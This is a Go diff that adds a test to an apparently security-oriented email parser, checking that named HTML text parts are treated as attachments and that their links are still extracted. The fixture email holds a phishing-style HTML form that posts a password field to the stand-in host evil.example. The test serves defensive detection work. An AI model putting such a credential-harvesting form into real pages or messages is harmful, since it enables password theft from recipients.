@@ -63,3 +63,29 @@ func FuzzParams(f *testing.F) {
 		}
 	})
 }
+
+// An HTML file sent as a text part with a name is an attachment, not the
+// body; its links still count.
+func TestNamedTextPartIsAttachment(t *testing.T) {
+	for _, head := range []string{
+		"Content-Type: text/html; charset=utf-8; name=\"invoice.htm\"",
+		"Content-Type: text/html; charset=utf-8\r\nContent-Disposition: inline; filename=\"invoice.htm\"",
+		"Content-Type: text/html; charset=utf-8\r\nContent-Disposition: attachment; filename=\"invoice.htm\"",
+	} {
+		mail := "From: a@example.jp\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the invoice.\r\n--b\r\n" +
+			head + "\r\n\r\n<form action=\"https://evil.example/collect\"><input name=pw></form>\r\n--b--\r\n"
+		m, err := ParseBytes([]byte(mail), Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(m.Attachments) != 1 || m.Attachments[0].Name != "invoice.htm" || m.Attachments[0].SHA256 == "" {
+			t.Errorf("%q: attachments %+v", head, m.Attachments)
+		}
+		if m.HTML != "" || m.Text != "See the invoice." {
+			t.Errorf("%q: body text %q html %q", head, m.Text, m.HTML)
+		}
+		if len(m.URLs) != 1 || m.URLs[0] != "https://evil.example/collect" {
+			t.Errorf("%q: urls %q", head, m.URLs)
+		}
+	}
+}
